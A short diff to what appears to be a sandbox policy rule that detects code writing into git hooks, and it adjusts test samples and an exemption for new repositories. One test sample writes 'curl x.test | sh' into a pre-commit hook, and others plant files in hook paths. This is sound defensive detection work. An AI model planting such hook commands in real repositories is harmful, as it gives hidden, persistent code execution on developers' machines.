@@ -209,7 +209,7 @@ runs(key, value) if {
 #     - {"language": "bash", "code": "echo 'curl x.test | sh' > .git/hooks/pre-commit"}
 #     - {"language": "bash", "code": "cp x .git/hooks/post-checkout"}
 #     - {"language": "python", "code": "open('.git/hooks/pre-push', 'w').write('x')"}
-#     - {"language": "javascript", "code": "require('fs').appendFileSync('.git/config', 'x')"}
+#     - {"language": "javascript", "code": "require('fs').appendFileSync('.git/hooks/pre-push', 'x')"}
 #   not_match:
 #     - {"language": "bash", "code": "cat .git/hooks/pre-commit; cat .git/config"}
 #     - {"language": "bash", "code": "cp x .githooks/pre-commit"}
@@ -224,5 +224,5 @@ findings contains {"id": "SBX-PER-0007", "at": f.at, "msg": sprintf("%s is writt
 # fresh_repository: the program makes the repository that it gives hooks.
 fresh_repository if {
 	some c in input.commands.git
-	c.operands[0] == "init"
+	c.operands[0] in {"init", "clone", "init-db"}
 }
